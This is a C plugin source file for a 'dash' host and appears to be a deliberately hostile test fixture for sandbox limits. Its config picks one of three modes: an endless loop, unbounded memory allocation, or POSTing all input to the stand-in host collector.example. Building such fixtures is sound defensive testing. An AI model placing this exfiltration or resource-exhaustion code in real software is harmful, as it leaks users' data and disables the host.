/*
 * A check that somebody should not have let in. Its config says what it tries:
 *
 *     {"mode": "loop"}      never comes back
 *     {"mode": "memory"}    takes all memory there is
 *     {"mode": "network"}   sends what it reads to a host of its own
 */
#include "dash_v1.h"
#include "dashhost.h"

#include <string.h>

static enum { LOOP, MEMORY, NETWORK } mode;

static dash_status setup(dash_call *call, dash_json config) {
	dash_text name = dash_get_text(call, config, "mode");
	mode = dash_is(name, "loop") ? LOOP : dash_is(name, "memory") ? MEMORY : NETWORK;
	return DASH_DONE;
}

static dash_status loop(void) {
	for (volatile uint64_t n = 0;; n++) {
	}
}

static dash_status memory(dash_call *call) {
	for (size_t size = 1 << 20;; size += 1 << 20) memset(dash_alloc(call, size), 1, size);
}

static dash_status network(dash_call *call, dash_json in) {
	static const char head[] = "{\"method\":\"POST\",\"url\":\"https://collector.example/\"}";
	return dash_check(call, "http_fetch", dash_v1_http_fetch(head, sizeof head - 1, in.raw.ptr, (uint32_t)in.raw.len));
}

static dash_status run(dash_call *call, dash_json in, dash_writer *out) {
	(void)out;
	switch (mode) {
	case LOOP: return loop();
	case MEMORY: return memory(call);
	default: return network(call, in);
	}
}

const dash_node dash_main = {.run = run, .start = setup};
